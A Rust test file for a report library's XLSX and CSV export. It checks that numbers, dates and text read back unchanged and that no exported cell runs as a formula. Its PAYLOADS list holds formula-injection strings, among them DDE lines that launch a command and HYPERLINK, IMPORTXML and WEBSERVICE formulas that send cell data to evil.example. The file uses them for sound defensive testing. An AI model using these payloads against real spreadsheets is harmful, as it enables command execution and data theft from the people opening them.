//! What goes out as a table comes back the same, and nothing in it can run.
#![allow(clippy::unwrap_used, clippy::float_cmp)] // Figures must come back to the last digit.

use std::io::{Cursor, Read};

use calamine::{Data, Reader, Xlsx};
use jiff::civil::{Date, date};
use mainstay_report::svg::{ChartRow, ChartTable, RowFigure};
use mainstay_report::table::{
    Cell, Column, ColumnKind, CsvOptions, Document, DocumentWords, FieldKind, FormField, FormRow,
    FormTemplate, FormWords, Separator, SheetOut, TableProblem, csv_document, csv_sheet,
    template_workbook, unguarded, xlsx_document,
};
use proptest::prelude::*;

/// Texts that spreadsheets have been known to run, or to split into something that runs.
const PAYLOADS: [&str; 30] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
    "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
    "=WEBSERVICE(\"http://evil.example/\"&A1)",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u{a0}=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "\"=1+1\"",
    "\",=1+1,\"",
    "a;=1+1;b",
    "a\n=1+1\nb",
    "'=1+1",
    "''=1+1",
    "=",
    "-",
    "{=1+1}",
    "_x003D_1+1",
];

fn column(name: &str, kind: ColumnKind) -> Column {
    Column {
        name: name.into(),
        kind,
        width: 14.0,
    }
}

fn document(sheets: Vec<SheetOut>) -> Document {
    Document {
        title: "Scorecard of Q3 2026 & notes".into(),
        made_on: date(2026, 11, 21),
        sheets,
        notes: vec![
            (
                "Definition".into(),
                "Children ready, out of children assessed.".into(),
            ),
            ("Coverage".into(), "11 of 14 partners".into()),
            ("Filter".into(), "=1+1".into()),
        ],
        words: DocumentWords {
            notes: "Notes".into(),
            about: "About".into(),
            note: "Note".into(),
        },
    }
}

fn all_kinds() -> SheetOut {
    SheetOut {
        name: "Scorecard".into(),
        columns: vec![
            column("Indicator", ColumnKind::Text),
            column("Value", ColumnKind::Number { decimals: 1 }),
            column("Share", ColumnKind::Percent { decimals: 1 }),
            column("People", ColumnKind::Integer),
            column("Year", ColumnKind::Year),
            column("Date", ColumnKind::Date),
        ],
        rows: vec![
            vec![
                "Readiness".into(),
                Cell::Number(-5.25),
                Cell::Number(0.713),
                Cell::Number(12345.0),
                Cell::Number(2026.0),
                Cell::Date(date(2026, 9, 30)),
            ],
            vec![
                "00123".into(),
                "Hidden: fewer than 11".into(),
                Cell::Blank,
                Cell::Number(0.0),
            ],
            vec![
                "Größe, “ñ” 家".into(),
                Cell::Number(f64::NAN),
                Cell::Number(0.1 + 0.2),
            ],
        ],
    }
}

fn open(bytes: &[u8]) -> Xlsx<Cursor<Vec<u8>>> {
    Xlsx::new(Cursor::new(bytes.to_vec())).unwrap()
}

fn read(bytes: &[u8], sheet: &str) -> Vec<Vec<Data>> {
    let range = open(bytes).worksheet_range(sheet).unwrap();
    range.rows().map(<[Data]>::to_vec).collect()
}

fn is_same(cell: Option<&Cell>, data: Option<&Data>) -> bool {
    match (cell, data) {
        (None | Some(Cell::Blank), None | Some(Data::Empty)) => true,
        (Some(Cell::Number(number)), None | Some(Data::Empty)) => !number.is_finite(),
        (Some(Cell::Text(text)), None | Some(Data::Empty)) => text.is_empty(),
        (Some(Cell::Text(text)), Some(Data::String(read))) => text == read,
        (Some(Cell::Number(number)), Some(Data::Float(read))) => number == read,
        (Some(Cell::Date(day)), Some(Data::DateTime(read))) => {
            let (year, month, day_of_month, ..) = read.to_ymd_hms_milli();
            (
                day.year().cast_unsigned(),
                day.month().cast_unsigned(),
                day.day().cast_unsigned(),
            ) == (year, month, day_of_month)
        }
        _ => false,
    }
}

fn assert_reads_back(sheet: &SheetOut, rows: &[Vec<Data>]) {
    let headings: Vec<String> = rows[0].iter().map(ToString::to_string).collect();
    let names: Vec<String> = sheet
        .columns
        .iter()
        .map(|column| column.name.clone())
        .collect();
    assert_eq!(headings, names);
    for (index, row) in sheet.rows.iter().enumerate() {
        for column in 0..sheet.columns.len() {
            let data = rows.get(index + 1).and_then(|read| read.get(column));
            assert!(
                is_same(row.get(column), data),
                "row {index}, column {column}: {:?} came back as {data:?}",
                row.get(column)
            );
        }
    }
}

fn part(bytes: &[u8], name: &str) -> String {
    let mut archive = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
    let mut text = String::new();
    archive
        .by_name(name)
        .unwrap()
        .read_to_string(&mut text)
        .unwrap();
    text
}

#[test]
fn a_workbook_holds_real_numbers_days_and_notes() {
    let document = document(vec![all_kinds()]);
    let bytes = xlsx_document(&document).unwrap();
    assert_eq!(open(&bytes).sheet_names(), ["Scorecard", "Notes"]);
    assert_reads_back(&document.sheets[0], &read(&bytes, "Scorecard"));
    let notes = read(&bytes, "Notes");
    assert_eq!(
        notes[2],
        [
            Data::String("Coverage".into()),
            Data::String("11 of 14 partners".into())
        ]
    );
    assert_eq!(
        bytes,
        xlsx_document(&document).unwrap(),
        "equal documents give equal bytes"
    );
}

#[test]
fn a_workbook_is_ready_to_read_and_print() {
    let bytes = xlsx_document(&document(vec![all_kinds()])).unwrap();
    let sheet = part(&bytes, "xl/worksheets/sheet1.xml");
    for expected in [
        "<pane ySplit=\"1\" topLeftCell=\"A2\"",
        "orientation=\"landscape\"",
        "<pageSetUpPr fitToPage=\"1\"/>",
        "fitToHeight=\"0\"",
        "Scorecard of Q3 2026 &amp;&amp; notes",
    ] {
        assert!(sheet.contains(expected), "{expected} in {sheet}");
    }
    assert!(part(&bytes, "xl/workbook.xml").contains("_xlnm.Print_Titles"));
    let styles = part(&bytes, "xl/styles.xml");
    for expected in ["#,##0.0", "0.0%", "yyyy-mm-dd"] {
        assert!(styles.contains(expected), "{expected} in {styles}");
    }
}

fn payload_sheet() -> SheetOut {
    SheetOut {
        name: "Payloads".into(),
        columns: vec![
            column("=1+1", ColumnKind::Text),
            column("Number", ColumnKind::Number { decimals: 0 }),
        ],
        rows: PAYLOADS
            .iter()
            .map(|payload| vec![(*payload).into(), Cell::Number(-5.0)])
            .collect(),
    }
}

#[test]
fn nothing_in_a_workbook_is_a_formula() {
    let sheet = payload_sheet();
    let bytes = xlsx_document(&document(vec![sheet.clone()])).unwrap();
    assert_reads_back(&sheet, &read(&bytes, "Payloads"));
    let formulas = open(&bytes).worksheet_formula("Payloads").unwrap();
    assert!(formulas.cells().all(|(_, _, formula)| formula.is_empty()));
    assert!(!part(&bytes, "xl/worksheets/sheet1.xml").contains("<f>"));
}

fn csv_rows(bytes: &[u8], separator: u8) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .delimiter(separator)
        .from_reader(bytes);
    reader
        .records()
        .map(|record| record.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

#[test]
fn csv_guards_text_and_leaves_numbers_alone() {
    for separator in [Separator::Comma, Separator::Semicolon] {
        let bytes = csv_sheet(
            &payload_sheet(),
            CsvOptions {
                separator,
                byte_order_mark: false,
            },
        );
        let mark = if separator == Separator::Comma {
            b','
        } else {
            b';'
        };
        let rows = csv_rows(&bytes, mark);
        assert_eq!(rows[0][0], "'=1+1");
        for (payload, row) in PAYLOADS.iter().zip(&rows[1..]) {
            assert!(
                !row[0]
                    .trim_start()
                    .starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']),
                "{row:?}"
            );
            assert_eq!(unguarded(&row[0], separator.other()), *payload);
            assert_eq!(row[1], "-5");
        }
    }
}

#[test]
fn csv_is_one_table_a_file_with_its_notes_beside_it() {
    let files = csv_document(
        &document(vec![all_kinds()]),
        CsvOptions {
            byte_order_mark: true,
            ..CsvOptions::default()
        },
    );
    let names: Vec<&str> = files.iter().map(|file| file.name.as_str()).collect();
    assert_eq!(names, ["Scorecard", "Notes"]);
    assert_eq!(
        String::from_utf8(files[0].bytes.clone()).unwrap(),
        "\u{feff}Indicator,Value,Share,People,Year,Date\r\n\
         Readiness,-5.25,0.713,12345,2026,2026-09-30\r\n\
         00123,Hidden: fewer than 11,,0,,\r\n\
         \"Größe, “ñ” 家\",,0.30000000000000004,,,\r\n"
    );
}

#[test]
fn a_chart_downloads_the_numbers_drawn() {
    let row = |label: &str, figure| ChartRow {
        label: label.into(),
        figure,
        text: String::new(),
        note: "n".into(),
    };
    let table = ChartTable {
        headings: ["Area".into(), "People".into(), "Note".into()],
        rows: vec![
            row("North", RowFigure::Value(412.0)),
            row("South", RowFigure::Range(230.0, 318.0)),
            row("East", RowFigure::None("Hidden".into())),
        ],
        references: Vec::new(),
    };
    let sheet = SheetOut::of_chart(
        "Breakdown",
        &table,
        ColumnKind::Integer,
        "At least",
        "At most",
    );
    let text = String::from_utf8(csv_sheet(&sheet, CsvOptions::default())).unwrap();
    assert_eq!(
        text,
        "Area,People,At least,At most,Note\r\nNorth,412,,,n\r\nSouth,,230,318,n\r\nEast,Hidden,,,n\r\n"
    );
}

#[test]
fn what_a_workbook_cannot_hold_is_refused_with_its_place() {
    let mut sheet = all_kinds();
    sheet.rows[1][0] = Cell::Text("x".repeat(32_768));
    let problem = xlsx_document(&document(vec![sheet])).unwrap_err();
    assert_eq!(
        problem,
        TableProblem::TextTooLong {
            sheet: "Scorecard".into(),
            row: 3,
            column: "Indicator".into()
        }
    );
    assert_eq!(
        problem.to_string(),
        "sheet “Scorecard”, row 3, column “Indicator” holds more than 32,767 characters: shorten the text, or choose CSV"
    );
}

fn form_words() -> FormWords {
    FormWords {
        indicator: "Indicator".into(),
        category: "Category".into(),
        period: "Period".into(),
        code: "Row code, leave as it is".into(),
        lists: "Lists".into(),
        help: "How to fill in".into(),
        help_lines: vec!["Fill in the tinted cells.".into(), "=1+1".into()],
        count_problem: "Enter a whole number, 0 or more.".into(),
        number_problem: "Enter a number.".into(),
        percent_problem: "Enter a percentage from 0 to 100 %.".into(),
        choice_problem: "Choose one of the words on the list.".into(),
        date_problem: "Enter a day, such as 2026-09-30.".into(),
    }
}

fn field(name: &str, kind: FieldKind, last: Option<&str>) -> FormField {
    FormField {
        name: name.into(),
        kind,
        help: format!("What to enter as {name}"),
        last_name: last.map(Into::into),
    }
}

fn fields() -> Vec<FormField> {
    let reasons = vec![
        "Not collected".to_owned(),
        "Not applicable".to_owned(),
        "Kept back, too few".to_owned(),
    ];
    vec![
        field("Number of people", FieldKind::Count, Some("Q2 2026")),
        field(
            "Share",
            FieldKind::Percent { decimals: 1 },
            Some("Share in Q2 2026"),
        ),
        field("Amount", FieldKind::Number { decimals: 2 }, None),
        field(
            "Reason if there is no figure",
            FieldKind::Choice(reasons),
            None,
        ),
        field("Comment", FieldKind::Text, None),
        field("Counted on", FieldKind::Date, None),
    ]
}

/// The columns to fill in, after three names: two of the fields have a grey column behind them.
const OPEN_COLUMNS: [usize; 6] = [3, 5, 7, 8, 9, 10];

fn form(rows: Vec<FormRow>) -> FormTemplate {
    FormTemplate {
        title: "Figures of Riverside Clinic for Q3 2026".into(),
        sheet: "Figures Q3 2026".into(),
        made_on: date(2026, 11, 21),
        fields: fields(),
        rows,
        words: form_words(),
    }
}

fn one_row() -> FormRow {
    FormRow {
        code: "children-served/north".into(),
        indicator: "Children served".into(),
        category: "North".into(),
        period: "Q3 2026".into(),
        entries: vec![Cell::Number(12.0)],
        last: vec![Cell::Number(10.0), Cell::Number(0.5)],
    }
}

#[test]
fn a_form_protects_its_names_and_checks_what_is_entered() {
    let bytes = template_workbook(&form(vec![one_row()])).unwrap();
    assert_eq!(
        open(&bytes).sheet_names(),
        ["Figures Q3 2026", "How to fill in", "Lists"]
    );
    let sheet = part(&bytes, "xl/worksheets/sheet1.xml");
    for expected in [
        "<sheetProtection sheet=\"1\"",
        "<dataValidation type=\"whole\" operator=\"greaterThanOrEqual\"",
        "<formula1>'Lists'!$A$2:$A$4</formula1>",
        "error=\"Enter a whole number, 0 or more.\"",
        "sqref=\"D2\"",
    ] {
        assert!(sheet.contains(expected), "{expected} in {sheet}");
    }
    assert!(!sheet.contains("password"));
    let rows = read(&bytes, "Figures Q3 2026");
    let headings: Vec<String> = rows[0].iter().map(ToString::to_string).collect();
    assert_eq!(headings[3..6], ["Number of people", "Q2 2026", "Share"]);
    assert_eq!(
        (&rows[1][3], &rows[1][4]),
        (&Data::Float(12.0), &Data::Float(10.0))
    );
    assert_eq!(rows[1][11], Data::String("children-served/north".into()));
    assert_eq!(
        read(&bytes, "Lists")[1],
        [Data::String("Not collected".into())]
    );
    assert!(template_workbook(&form(Vec::new())).is_ok());
}

fn any_day() -> impl Strategy<Value = Date> {
    (1950i16..2100, 1i8..13, 1i8..29).prop_map(|(year, month, day)| date(year, month, day))
}

fn any_cell() -> impl Strategy<Value = Cell> {
    prop_oneof![
        Just(Cell::Blank),
        any::<f64>()
            .prop_filter("a cell holds normal numbers", |n| n.is_normal()
                || *n == 0.0)
            .prop_map(Cell::Number),
        "\\PC{0,30}".prop_map(Cell::Text),
        "[=+@' a,;\"\n\t-]{0,8}".prop_map(Cell::Text),
        any_day().prop_map(Cell::Date),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(100))]

    #[test]
    fn any_table_reads_back_from_a_workbook_and_from_csv(
        rows in proptest::collection::vec(proptest::collection::vec(any_cell(), 3), 1..12)
    ) {
        let columns = vec![
            column("A", ColumnKind::Text),
            column("B", ColumnKind::Number { decimals: 1 }),
            column("C", ColumnKind::Date),
        ];
        let sheet = SheetOut { name: "T".into(), columns, rows };
        assert_reads_back(&sheet, &read(&xlsx_document(&document(vec![sheet.clone()])).unwrap(), "T"));
        let options = CsvOptions { separator: Separator::Semicolon, byte_order_mark: false };
        let back = csv_rows(&csv_sheet(&sheet, options), b';');
        prop_assert_eq!(back.len(), sheet.rows.len() + 1);
        for (row, read) in sheet.rows.iter().zip(&back[1..]) {
            for (cell, text) in row.iter().zip(read) {
                match cell {
                    Cell::Text(words) => prop_assert_eq!(&unguarded(text, ','), words),
                    Cell::Number(number) => prop_assert_eq!(text.parse::<f64>().unwrap(), *number),
                    Cell::Date(day) => prop_assert_eq!(text.parse::<Date>().unwrap(), *day),
                    Cell::Blank => prop_assert_eq!(text, ""),
                }
            }
        }
    }

    #[test]
    fn a_form_half_filled_in_reads_back_the_same(
        drafts in proptest::collection::vec(proptest::collection::vec(any_cell(), 6), 1..10)
    ) {
        let rows = drafts.iter().enumerate().map(|(index, entries)| FormRow {
            code: format!("0{index}"),
            entries: entries.clone(),
            ..one_row()
        });
        let read = read(&template_workbook(&form(rows.collect())).unwrap(), "Figures Q3 2026");
        for (index, entries) in drafts.iter().enumerate() {
            let row = &read[index + 1];
            prop_assert_eq!(&row[11], &Data::String(format!("0{index}")));
            for (cell, column) in entries.iter().zip(OPEN_COLUMNS) {
                prop_assert!(is_same(Some(cell), Some(&row[column])), "{:?} came back as {:?}", cell, row[column]);
            }
        }
    }
}
